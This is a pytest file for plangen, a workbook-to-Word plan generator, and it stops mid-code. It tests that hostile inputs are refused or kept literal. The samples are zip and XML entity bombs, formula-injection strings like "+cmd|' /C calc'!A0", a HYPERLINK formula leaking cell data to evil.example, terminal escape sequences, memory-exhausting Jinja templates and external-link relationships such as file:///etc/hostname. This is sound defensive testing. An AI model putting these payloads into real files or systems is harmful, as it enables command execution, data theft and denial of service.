"""Broken and hostile workbooks: every one gets a clear answer, nothing crashes or is lost."""

from __future__ import annotations

import gc
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import time
import uuid
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import corpus
import pytest
from click.testing import CliRunner, Result
from docx import Document
from openpyxl import load_workbook

from plangen import load
from plangen.cli import cli
from plangen.safetext import FORMULA_STARTS

SLOW_SECONDS = 120
"""A command still running after this long is taken for hung (each takes a few seconds;
the bound is generous so a busy machine never fails a test)."""


def invoke(*args: Any) -> Result:
    """Run plangen in-process; fail on any traceback or unforeseen exception."""
    started = time.monotonic()
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert time.monotonic() - started < SLOW_SECONDS
    assert "Traceback" not in result.output
    if result.exception is not None:
        assert isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def docx_text(path: Path) -> str:
    doc = Document(str(path))
    lines = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        lines.extend(" | ".join(c.text for c in row.cells) for row in table.rows)
    return "\n".join(lines)


def leftovers(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.suffix in (".docx", ".part") or ".part" in p.name]


def check_refused(path: Path, tmp_path: Path, phrase: str) -> None:
    """validate and build both exit 1 with one error line naming the file; nothing written."""
    before = corpus.digest(path)
    out = tmp_path / "out"
    for args in (["validate", path], ["build", path, "-o", out]):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        errors = [line for line in result.output.splitlines() if line.startswith("error:")]
        assert errors, result.output
        assert errors[0].startswith(f"error: {path}: "), result.output
        assert phrase in result.output
    assert leftovers(tmp_path) == []
    assert corpus.digest(path) == before


FILE_CASES: list[tuple[Callable[[Path], Path], str]] = [
    (corpus.empty, "the file is empty"),
    (corpus.random_bytes, "is not an .xlsx workbook"),
    (corpus.truncated, "damaged or incomplete"),
    (corpus.old_xls, "old Excel 97-2003 (.xls)"),
    (corpus.csv_renamed, "CSV text"),
    (corpus.password_protected, "protected with a password"),
    (corpus.lock_file, "Office lock file"),
    (corpus.a_folder, "is a folder"),
    (corpus.missing, "no such file"),
    (corpus.entity_bomb, "declares XML entities"),
    (corpus.entity_bomb_late, "declares XML entities"),
    (corpus.fifo, "is not a regular file"),
    (corpus.far_cell, "Observations!XFD1048576: this filled cell makes the sheet 1,048,576 rows"),
    (
        lambda folder: corpus.far_cell(folder, "AZ300000"),
        "more than the 1,000,000 cells plangen reads",
    ),
    (
        corpus.shared_text_amplified,
        "Observations: its cells would hold 600,000,000 characters of text",
    ),
    (
        corpus.ods_repeated_cells,
        "Plan!WQJ1000000: this filled cell makes the sheet 1,000,000 rows by 16,000 columns",
    ),
    (corpus.many_shared_texts, "part xl/sharedStrings.xml holds more than 1,000,000 texts"),
    (
        corpus.formatted_cells,
        "Observations: the workbook's sheets hold more than the 1,000,000 cells (filled or "
        "only formatted) plangen reads",
    ),
    (corpus.ods_entity_bomb, "declares XML entities"),
    (corpus.ods_zip_bomb, "more than the 100 MB plangen reads in one part; refused unread"),
    (corpus.odt_renamed, "is a zip file but not a spreadsheet"),
    (corpus.many_parts, "holds 2,151 parts, more than the 2,000 plangen opens; refused unread"),
]


@pytest.mark.parametrize(
    ("builder", "phrase"), FILE_CASES, ids=lambda c: getattr(c, "__name__", "")
)
def test_unreadable_files_are_refused_in_plain_words(builder, phrase, tmp_path: Path):
    check_refused(builder(tmp_path), tmp_path, phrase)


def parts_opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names of the zip parts plangen opens from now on (zipfile's own `open`,
    watched, not replaced)."""
    opened: list[str] = []
    original = zipfile.ZipFile.open

    def watched(self: zipfile.ZipFile, name: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(getattr(name, "filename", name))
        return original(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", watched)
    return opened


def test_zip_bomb_is_refused_from_its_directory_unopened_and_small(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    bomb = corpus.zip_bomb(tmp_path)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    opened = parts_opened(monkeypatch)
    check_refused(bomb, tmp_path, "refused unread")
    assert opened == []
    assert invoke("validate", corpus.copy_example(tmp_path, "good.xlsx")).exit_code == 0
    assert "xl/workbook.xml" in opened  # the watch sees what a readable workbook opens
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert grown_kb < 100_000


def test_workbook_with_macros_is_read_and_macros_ignored(tmp_path: Path):
    path = corpus.with_macros(tmp_path)
    before = corpus.digest(path)
    result = invoke("build", path, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "Super Excited Division" in docx_text(tmp_path / "out" / "macros.docx")
    assert corpus.digest(path) == before


# ------------------------------------------------------------------ structure


def build_ok(path: Path, out: Path) -> str:
    before = corpus.digest(path)
    result = invoke("build", path, "-o", out)
    assert result.exit_code == 0, result.output
    assert corpus.digest(path) == before
    return docx_text(out / f"{path.stem}.docx")


@pytest.fixture(scope="module")
def example_text(tmp_path_factory) -> str:
    out = tmp_path_factory.mktemp("example")
    return build_ok(corpus.SYSTEM_EXAMPLE, out)


def error_lines(result: Result) -> list[str]:
    return [line for line in result.output.splitlines() if line.startswith("error:")]


def check_invalid(path: Path, tmp_path: Path, *locations: str) -> list[str]:
    """validate and build exit 1, naming each location; build writes nothing."""
    before = corpus.digest(path)
    result = invoke("validate", path)
    assert result.exit_code == 1, result.output
    lines = error_lines(result)
    for where in locations:
        assert any(f"error: {path}: {where}" in line for line in lines), result.output
    built = invoke("build", path, "-o", tmp_path / "out")
    assert built.exit_code == 1, built.output
    assert leftovers(tmp_path) == []
    assert corpus.digest(path) == before
    return lines


def test_missing_required_sheet_is_named(tmp_path: Path):
    path = corpus.edited(tmp_path, lambda b: b.remove(b["Supports"]))
    check_invalid(path, tmp_path, 'Supports: the sheet "Supports" is missing')


def test_renamed_header_names_the_column_and_row(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Supports!B3": "What we do"})
    check_invalid(path, tmp_path, 'Supports: no "Support" column in the header row (row 3)')


def test_extra_and_reordered_columns_build_the_same_plan(tmp_path: Path, example_text: str):
    def edit(book: Any) -> None:
        ws = book["Supports"]
        ws.insert_cols(1)
        ws["A3"] = "Notes to self"
        ws["A4"] = "not in the plan"
        ws.move_range("C3:C40", cols=6)  # Support moves to the far right

    path = corpus.edited(tmp_path, edit)
    assert build_ok(path, tmp_path / "out") == example_text


def test_blank_and_hidden_rows_keep_every_record(tmp_path: Path, example_text: str):
    def edit(book: Any) -> None:
        ws = book["Supports"]
        ws.insert_rows(6, 3)
        ws.row_dimensions[5].hidden = True

    path = corpus.edited(tmp_path, edit)
    assert build_ok(path, tmp_path / "out") == example_text


def test_merged_cells_across_data_name_the_emptied_cell(tmp_path: Path):
    path = corpus.edited(tmp_path, lambda b: b["Supports"].merge_cells("B4:B5"))
    check_invalid(
        path,
        tmp_path,
        "Supports!B5: Support: this cell is part of the merged cells B4:B5, which hold their "
        "value only in B4; unmerge them and type the value in every row",
    )


def test_workbook_saved_by_libreoffice_builds_the_same_figures(tmp_path: Path, example_text: str):
    src = tmp_path / "src"
    src.mkdir()
    plain = corpus.copy_example(src, "lo.xlsx")
    profile = f"file:///tmp/plangen-hostile-{uuid.uuid4().hex}"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(plain),
        ],
        capture_output=True,
        timeout=120,
    )
    if not (tmp_path / "lo.xlsx").exists():
        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
    assert load(tmp_path / "lo.xlsx").report.valid
    text = build_ok(tmp_path / "lo.xlsx", tmp_path / "out")
    assert "13/26" in invoke("status", tmp_path / "lo.xlsx").output
    assert text == example_text


# ------------------------------------------------------------------ values


def test_a_number_in_a_percent_cell_is_a_fraction(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!C4": 36})  # the cell is formatted 0%
    check_invalid(
        path,
        tmp_path,
        "Data!C4: Score (%): the cell is formatted as percent, so 36 shows as 3600%; "
        "type 36% instead",
    )


@pytest.mark.parametrize("typed", [0.36, "36%", "36", " 36 % "])
def test_percent_written_any_way_means_36(typed: Any, tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!C4": typed})
    assert load(path).plan.table("data")[0]["score"] == 36
    assert "DCA Total Score | 36% |" in build_ok(path, tmp_path / "out")


@pytest.mark.parametrize(
    "typed", ["2022-10-31", 44865, "October 31, 2022", "10/31/2022", "31.10.2022", "Oct 31 2022"]
)
def test_dates_in_any_common_form_are_read(typed: Any, tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Plan!B5": typed})
    assert load(path).plan.fields["date_initiated"] == date(2022, 10, 31)


def test_numbers_as_text_are_read(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!D4": "25", "Goals!A4": " 1 "})
    plan = load(path).plan
    assert plan.table("data")[0]["n"] == 25
    assert plan.table("goals")[0]["number"] == 1


@pytest.mark.parametrize(
    ("cells", "where"),
    [
        ({"Data!C4": 136}, "Data!C4: Score (%): a score must be between 0% and 100%"),
        ({"Plan!B5": "next tuesday"}, "Plan!B5: Date initiated: expected a date"),
        ({"Supports!D4": "Finished"}, "Supports!D4: Status: did you mean \"Completed\"?"),
        ({"Goals!A4": "one"}, "Goals!A4: Goal: expected a whole number"),
        (
            {"Focus Areas!B5": "Yes", "Focus Areas!B6": "Yes", "Focus Areas!B7": "Yes"},
            "Focus Areas!B7: at most 3 focus areas may be selected",
        ),
        ({"Data!A4": "x" * 40_000}, "Data!A4: Measure: is 32,767 characters long, Excel's limit"),
    ],
)
def test_bad_values_are_named_by_cell(cells: dict[str, Any], where: str, tmp_path: Path):
    check_invalid(corpus.set_cells(tmp_path, cells), tmp_path, where)


def test_formula_without_saved_value_is_named_with_what_to_do(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Goals!A4": "=0+1", "Data!D4": "=20+5"})
    lines = check_invalid(path, tmp_path, "Goals!A4", "Data!D4")
    assert all("open and save" in line for line in lines if "!A4" in line or "!D4" in line)


def test_formula_with_saved_value_is_read(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!D4": "=20+5"})
    part = corpus.sheet_part(path, "Data")
    corpus.patch_part(
        path, part, lambda x: x.replace(b"<f>20+5</f><v></v>", b"<f>20+5</f><v>25</v>")
    )
    assert load(path).plan.table("data")[0]["n"] == 25


def test_odd_text_reaches_the_plan_literally(tmp_path: Path):
    long_text = ("Coaching every week. " * 1600)[:32_000]
    cells = {
        "Observations!A4": "{{ 7*7 }} and {% for x in y %}{% endfor %}",
        "Observations!A5": "R&D <b>bold</b> & more",
        "Observations!A6": "🎉 مرحبا بالعالم שלום",
        "Observations!A7": "tab_x0009_and_x000B_vertical",
        "Observations!A8": long_text,
    }
    path = corpus.set_cells(tmp_path, cells)
    text = build_ok(path, tmp_path / "out")
    assert "{{ 7*7 }} and {% for x in y %}{% endfor %}" in text
    assert "49" not in text.split("Qualitative observations")[1][:50]
    assert "R&D <b>bold</b> & more" in text
    assert "🎉 مرحبا بالعالم שלום" in text
    assert "tab\tandvertical" in text
    assert long_text.strip() in text


def test_control_characters_in_the_sheet_xml_are_stripped(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Observations!A4": "bell here"})
    corpus.patch_part(
        path,
        corpus.sheet_part(path, "Observations"),
        lambda x: x.replace(b"bell here", b"bell&#7; here\x0c"),
    )
    assert "bell here" in build_ok(path, tmp_path / "out")


def test_text_aimed_at_the_charts_stays_text(tmp_path: Path):
    import io
    import zipfile

    from openpyxl import load_workbook

    from plangen.pipeline import build

    docx = build(corpus.chart_bait(tmp_path), tmp_path / "out").docx
    level = '=HYPERLINK("http://x","R&D <b>")'
    with zipfile.ZipFile(docx) as archive:
        names = archive.namelist()
        body = archive.read("word/document.xml").decode()
        book = archive.read("word/embeddings/Microsoft_Excel_Worksheet2.xlsx")
        bars = archive.read("word/charts/chart2.xml").decode()
    assert len([n for n in names if n.startswith("word/charts/chart")]) == 3
    assert "[plangen-chart by_goal 0123456789abcdef]" in body
    cell = load_workbook(io.BytesIO(book))["Sheet1"]["A2"]
    assert (cell.value, cell.data_type) == (f"{level} (60%)", "s")
    assert "R&amp;D &lt;b&gt;" in bars


# ------------------------------------------------------------------ output


def test_output_folder_under_a_file_cannot_be_written(tmp_path: Path, system_example: Path):
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder")
    result = invoke("build", system_example, "-o", blocker / "sub")
    assert result.exit_code == 1
    assert "cannot be written" in result.output
    assert leftovers(tmp_path) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder anyway")
def test_read_only_output_folder_is_refused(tmp_path: Path, system_example: Path):
    out = tmp_path / "ro"
    out.mkdir()
    out.chmod(0o555)
    result = invoke("build", system_example, "-o", out)
    out.chmod(0o755)
    assert result.exit_code == 1
    assert "cannot be written" in result.output
    assert leftovers(tmp_path) == []


@pytest.fixture
def full_disk(tmp_path: Path):
    """A 64 KB tmpfs filled to the brim; skipped where mounting is not allowed."""
    mount = tmp_path / "full"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a tmpfs here to fill")
    try:
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT)
        with pytest.raises(OSError):
            while True:
                os.write(fd, b"\0" * 4096)
        os.close(fd)
        yield mount
    finally:
        gc.collect()  # python-docx leaves the failed zip writer open until collected
        subprocess.run(["umount", "-l", str(mount)], check=False)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_full_disk_leaves_no_half_plan(full_disk: Path, system_example: Path):
    result = invoke("build", system_example, "-o", full_disk)
    assert result.exit_code == 1
    assert "cannot be written (No space left on device)" in result.output
    assert sorted(p.name for p in full_disk.iterdir()) == ["filler"]


def test_output_onto_the_input_is_a_usage_error(tmp_path: Path):
    path = corpus.copy_example(tmp_path)
    before = corpus.digest(path)
    result = invoke("build", path, "-o", path)
    assert result.exit_code == 2
    assert corpus.digest(path) == before


def test_unknown_option_is_a_usage_error(system_example: Path):
    assert invoke("build", system_example, "--colour").exit_code == 2


# ------------------------------------------------------------------ batch


def test_batch_names_every_bad_workbook_and_builds_the_good_one(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    bad = [
        corpus.empty,
        corpus.random_bytes,
        corpus.truncated,
        corpus.old_xls,
        corpus.csv_renamed,
        corpus.password_protected,
        corpus.entity_bomb,
    ]
    names = [builder(folder).name for builder in bad]
    corpus.lock_file(folder)
    corpus.a_folder(folder)
    corpus.copy_example(folder, "good.xlsx")
    corpus.set_cells(folder, {"Data!C4": 136}, "over.xlsx")
    before = corpus.digest(folder)
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 1, result.output
    assert "1 built, 0 skipped (unchanged), 1 invalid, 7 failed" in result.output
    for name in [*names, "over.xlsx"]:
        assert name in result.output
    assert sorted(p.name for p in out.glob("*.docx")) == ["good.docx"]
    assert "Data!C4" in (out / "summary.csv").read_text(encoding="utf-8")
    assert corpus.digest(folder) == before
    assert not list(tmp_path.rglob("*.part"))


def test_huge_number_in_a_date_cell_names_the_sheet(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Supports!E4": -1e15})
    check_refused(path, tmp_path, 'sheet "Supports" could not be read')


# ------------------------------------------------------------------ plan documents (pull)


def _built_plan(tmp_path: Path) -> tuple[Path, Path]:
    workbook = corpus.copy_example(tmp_path, "plan.xlsx")
    result = CliRunner().invoke(cli, ["build", str(workbook), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    return workbook, tmp_path / "out" / "plan.docx"


def test_a_formula_typed_in_word_is_pulled_as_text(tmp_path: Path) -> None:
    from wordedit import WordEdit

    workbook, docx = _built_plan(tmp_path)
    edit = WordEdit(docx)
    edit.type_text("reviews|6|adjustments", '=HYPERLINK("http://evil.example","x")')
    edit.save()
    assert CliRunner().invoke(cli, ["pull", str(docx), str(workbook)]).exit_code == 0
    cell = load_workbook(workbook)["Reviews"]["G6"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example","x")', "s")


@pytest.mark.parametrize(
    ("make", "phrase"),
    [
        (lambda p: p.write_bytes(os.urandom(2048)), "is not a Word .docx document"),
        (lambda p: p.write_bytes(b""), "is not a Word .docx document"),
        (
            lambda p: _rewrite_part(
                p,
                "word/document.xml",
                b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
                b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>',
            ),
            "declares XML entities; refused for safety",
        ),
        (
            lambda p: _rewrite_part(
                p,
                _plangen_item(p),
                b'<plangen xmlns="urn:plangen:plan:1"><record>{not json</record></plangen>',
            ),
            "holds no plangen record",
        ),
        (
            lambda p: _rewrite_part(
                p,
                _plangen_item(p),
                b'<plangen xmlns="urn:plangen:plan:1"><record>{"kind": "system", "district": '
                b'"x", "plan_id": "system:x", "workbook": "plan.xlsx", "built": "", '
                b'"fingerprint": "", "values": {"supports|4": {"row": "4"}}}</record></plangen>',
            ),
            "holds no plangen record",
        ),
    ],
    ids=["random-bytes", "empty", "entities", "forged-record", "forged-entries"],
)
def test_hostile_plan_documents_are_refused_and_never_replaced(
    make: Any, phrase: str, tmp_path: Path
) -> None:
    workbook, docx = _built_plan(tmp_path)
    make(docx)
    before_doc, before_book = corpus.digest(docx), corpus.digest(workbook)
    pulled = CliRunner().invoke(cli, ["pull", str(docx), str(workbook)])
    assert pulled.exit_code == 1
    assert phrase in pulled.output
    assert "Traceback" not in pulled.output
    rebuilt = CliRunner().invoke(cli, ["build", str(workbook), "-o", str(docx.parent)])
    assert rebuilt.exit_code == 1
    assert "not replaced" in rebuilt.output
    assert (corpus.digest(docx), corpus.digest(workbook)) == (before_doc, before_book)


def _child(*args: Any) -> tuple[int, str, int]:
    """Run a real `plangen` process: its exit code, its stderr and its peak memory (KB)."""
    done = subprocess.run(
        ["/usr/bin/time", "-f", "maxrss_kb=%M", sys.executable, "-m", "plangen",
         *map(str, args)],
        capture_output=True, text=True, timeout=120,
    )
    err, _, rss = done.stderr.rpartition("maxrss_kb=")
    return done.returncode, err.replace("Command exited with non-zero status 1\n", ""), int(rss)


@pytest.mark.parametrize(
    ("count", "size", "phrase"),
    [
        (4, 60 * 2**20, "would unpack to 252 MB, more than the 200 MB plangen reads; "),
        (1, 30 * 2**20, "part word/header90.xml would unpack to 31 MB of XML, more than the "
         "20 MB plangen parses in one part; "),
        (2, 18 * 2**20, "its XML parts would unpack to 38 MB, more than the 32 MB plangen "
         "parses from one file; "),
    ],
    ids=["four-60MB-headers", "one-30MB-header", "two-18MB-headers"],
)
def test_a_docx_of_huge_headers_is_refused_small_by_pull_and_build(
    count: int, size: int, phrase: str, tmp_path: Path
) -> None:
    """#22: four 60 MB headers in a 0.8 MB file took `pull --dry-run` to 3.8 GB (exit 0),
    and `build` read the same file sitting at its output path. Now both refuse it from
    the zip's directory: exit 1, one line naming the file, under 500 MB."""
    workbook, docx = _built_plan(tmp_path)
    corpus.docx_with_huge_headers(docx, count, size)
    assert docx.stat().st_size < 2_000_000
    before_doc, before_book = corpus.digest(docx), corpus.digest(workbook)
    code, err, rss_kb = _child("pull", "--dry-run", docx, workbook)
    assert code == 1, err
    assert err.splitlines() == [f"error: {docx}: {phrase}refused unread"]
    assert rss_kb < 500_000
    code, err, rss_kb = _child("build", workbook, "-o", docx.parent)
    assert code == 1, err
    assert err.splitlines()[0] == (
        f"error: {docx}: is not a plan plangen can read ({phrase}refused unread); not replaced "
        "(--force rebuilds it and keeps this copy as plan.edited-1.docx)"
    )
    assert rss_kb < 500_000
    assert (corpus.digest(docx), corpus.digest(workbook)) == (before_doc, before_book)


def _rewrite_part(docx: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(docx) as archive:
        entries = [(i, archive.read(i.filename)) for i in archive.infolist()]
    with zipfile.ZipFile(docx, "w") as out:
        for info, old in entries:
            out.writestr(info, data if info.filename == name else old)


def _plangen_item(docx: Path) -> str:
    """The name of the custom XML part holding plangen's record."""
    with zipfile.ZipFile(docx) as archive:
        return next(
            n for n in archive.namelist()
            if n.startswith("customXml/item") and b"urn:plangen:plan" in archive.read(n)
        )


# ------------------------------------------------------------------ spreadsheets written (#12)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def test_batch_summary_holds_typed_formulas_as_text(tmp_path: Path):
    import csv

    from openpyxl import load_workbook

    folder = tmp_path / "in"
    folder.mkdir()
    for i, typed in enumerate(FORMULAS):
        corpus.set_texts(folder, {"Plan!B4": typed}, f"d{i}.xlsx")
    corpus.copy_example(folder, "=1+1.xlsx")
    corpus.set_texts(folder, {"Supports!D4": "=1+1"}, "bad.xlsx")
    before = corpus.digest(folder)
    out = tmp_path / "out"
    invoke("batch", folder, "-o", out, "-j", "1")
    assert corpus.digest(folder) == before
    with zipfile.ZipFile(out / "summary.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(out / "summary.xlsx")["Summary"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for i, typed in enumerate(FORMULAS):
        district = rows[f"d{i}.xlsx"][1]
        assert (district.value, district.data_type) == (typed.strip("\t\r"), "s") or (
            district.value == typed and district.data_type == "s"
        )
    assert rows["=1+1.xlsx"][0].data_type == "s"
    percent = rows["d0.xlsx"][7]
    assert (percent.value, percent.data_type) == (50, "n")
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = {row[0]: row for row in csv.reader(fh)}
    for i in range(len(FORMULAS)):
        district = table[f"d{i}.xlsx"][1]
        assert district.startswith("'") and district[1:] in FORMULAS + [
            f.strip("\t\r") for f in FORMULAS
        ]
    assert "'=1+1.xlsx" in table
    assert table["d0.xlsx"][7] == "50"
    assert not table["bad.xlsx"][12].startswith(FORMULA_STARTS)


def test_blank_and_example_workbooks_hold_no_formula(tmp_path: Path):
    for args in (["system"], ["district"], ["system", "--example"]):
        path = tmp_path / f"{'_'.join(args)}.xlsx"
        assert invoke("new", args[0], path, *args[1:]).exit_code == 0
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (path, name)


# ------------------------------------------------------------------ terminal (#12)

MARKUP = ["Foo [/bold] bar", "Done [/]", "[link=https://evil.example]x[/link]", "[red]x"]


@pytest.mark.parametrize("typed", MARKUP)
def test_status_prints_workbook_text_literally(typed: str, tmp_path: Path):
    path = corpus.set_texts(tmp_path, {"Plan!B4": typed, "Supports!A4": typed})
    result = invoke("status", path)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == (
        f"{typed}: 13/26 coaching supports completed (50%), as of 2023-02-15"
    )


def test_batch_failure_table_survives_markup_and_escape_sequences(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    corpus.set_texts(folder, {"Supports!D4": "Done [/]"}, "done.xlsx")
    corpus.set_texts(folder, {"Supports!D4": "[link=https://evil.example]x[/link]"}, "l.xlsx")
    corpus.copy_example(folder, "red\x1b[31m\x1b]8;;evil.example\x07here\x1b]8;;\x07.xlsx")
    result = invoke("batch", folder, "-o", tmp_path / "out", "-j", "1")
    assert result.exit_code == 1, result.output
    assert "Plans not built" in result.output
    assert "3 workbooks: 1 built, 0 skipped (unchanged), 2 invalid, 0 failed" in result.output
    assert 'got "Done [/]"' in result.output
    assert "[link=https://evil.example]x[/link]" in result.output
    assert "redhere.xlsx" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_error_lines_strip_control_sequences_from_file_names(tmp_path: Path):
    path = tmp_path / "a\x1b]8;;evil.example\x07b\x9b31m.xlsx"
    path.write_bytes(b"")
    result = invoke("validate", path)
    assert result.exit_code == 1
    assert result.output.splitlines() == [f"error: {tmp_path}/ab31m.xlsx: the file is empty"]


def test_for_terminal_strips_every_kind_of_control():
    from plangen.safetext import for_terminal

    hostile = "a\x1b[2Jb\x1b]8;;http://e\x1b\\c\x07d\x9b1me\x00f\u202eg\x7fh\ti\nj"
    assert for_terminal(hostile) == "abcd1mefgh\ti\nj"


# ------------------------------------------------------------------ text stays literal (#12)


def test_docxtpl_marks_typed_in_a_cell_come_out_literally(tmp_path: Path):
    typed = "a {_{ b }_} c {_% if x %_} {# note #} {%_ y _%} __init__ {{_}}"
    path = corpus.set_texts(tmp_path, {"Observations!A4": typed, "Plan!B4": "{_{ d }_}"})
    text = build_ok(path, tmp_path / "out")
    assert typed in text
    assert "{_{ d }_}" in text


# ------------------------------------------------------------------ templates (#12)

SANDBOX = [
    ("{{ [1]|slice(1000000000000)|max }}", "slice() takes numbers up to 10,000"),
    ("{{ [1]|slice(1000000000)|list|length }}", "slice() takes numbers up to 10,000"),
    ("{{ [1]|batch(1000000000)|list|length }}", "batch() takes numbers up to 10,000"),
    ("{{ [[1]]|tojson(indent=100000000) }}", "tojson() takes numbers up to 8"),
    (
        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|join }}",
        "map() builds more than 10,000 items or 1,000,000 characters",
    ),
    (
        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|map('string')"
        "|select|list|length }}",
        "builds more than 10,000 items or 1,000,000 characters",
    ),
    (
        "{% set ns = namespace(l=[]) %}{% for i in range(1000) %}"
        "{% set ns.l = ns.l + [('x' * 999999) ~ i] %}{% endfor %}{{ ns.l|join }}",
        "builds a value larger than 1,000,000 characters",
    ),
    ("{{ ('x' * 999999)|replace('x', 'yy') }}", "replace() would build more than 1,000,000"),
    ("{{ range(10000)|map('string')|list|sum(start=[])|length }}", "could not be rendered"),
    ("{{ 'x'|truncate(10 ** 9) }}", "truncate() takes numbers up to 1,000,000"),
    (
        "{{ range(10000)|map('string')|map('list')|list|sum(start=[])|length }}",
        "builds a list longer than 10,000",
    ),
]


@pytest.mark.parametrize(("source", "phrase"), SANDBOX, ids=[s[:40] for s, _ in SANDBOX])
def test_template_caps_hold_while_compiling_and_through_generators(
    source: str, phrase: str, tmp_path: Path, system_example: Path
):
    template = corpus.template_with(tmp_path, "Plan for {{ district }}", source)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    out = tmp_path / "out"
    for args in (
        ["build", system_example, "-o", out, "--template", template],
        ["template", "check", template, "--kind", "system"],
    ):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        assert result.output.startswith(f"error: {template}: "), result.output
        assert phrase in result.output
    assert not out.exists()
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 300_000


def test_a_template_with_a_huge_part_is_refused_unread(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    template = corpus.template_with_huge_footer(tmp_path)
    assert template.stat().st_size < 200_000
    opened = parts_opened(monkeypatch)
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: part word/footer9.xml would unpack to 31 MB of XML, more than the "
        "20 MB plangen parses in one part; refused unread"
    ]
    assert "word/footer9.xml" not in opened
    assert not (tmp_path / "out").exists()


def test_a_template_declaring_entities_past_its_first_kilobytes_is_refused(
    tmp_path: Path, system_example: Path
) -> None:
    template = corpus.template_with_late_doctype(tmp_path)
    out = tmp_path / "out"
    for args in (
        ["build", system_example, "-o", out, "--template", template],
        ["template", "check", template, "--kind", "system"],
    ):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        assert result.output.splitlines() == [
            f"error: {template}: part word/document.xml declares XML entities; refused for safety"
        ]
    assert not out.exists()


def _reaching_templates() -> list[tuple[Callable[[Path], Path], str]]:
    cases: list[tuple[Callable[[Path], Path], str]] = [
        (
            lambda d: corpus.template_linking_image(d, "file:///etc/hostname"),
            'the image relationship points outside the document: "file:///etc/hostname"',
        ),
        (
            lambda d: corpus.template_linking_image(d, "http://evil.example/x.png"),
            "an image is linked from outside instead of held in it (r:link)",
        ),
        (
            lambda d: corpus.template_with_relationship(
                d, "attachedTemplate", "file:///srv/evil.dotm", True
            ),
            'the attachedTemplate relationship points outside the document: "file:///srv/evil',
        ),
        (
            lambda d: corpus.template_with_relationship(
                d, "hyperlink", "file:///etc/hostname", True
            ),
            'the hyperlink relationship points outside the document: "file:///etc/hostname"',
        ),
        (
            lambda d: corpus.template_with_relationship(d, "aFChunk", "chunk.mht", False),
            "an alternative-format chunk imports another document's content",
        ),
        (
            lambda d: corpus.template_with_vml_picture(d, "http://evil.example/x.png"),
            'points at "http://evil.example/x.png" outside the document',
        ),
        (
            lambda d: corpus.template_with_vml_picture(d, "\\\\server\\share\\x.png"),
            'points at "\\\\server\\share\\x.png" outside the document',
        ),
        (
            lambda d: corpus.reencoded(
                corpus.template_linking_image(d, "file:///etc/hostname"),
                "word/_rels/document.xml.rels",
            ),
            'the image relationship points outside the document: "file:///etc/hostname"',
        ),
    ]
    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext"):
        for simple in (True, False):
            cases.append(
                (
                    lambda d, f=field, s=simple: corpus.template_with_field(
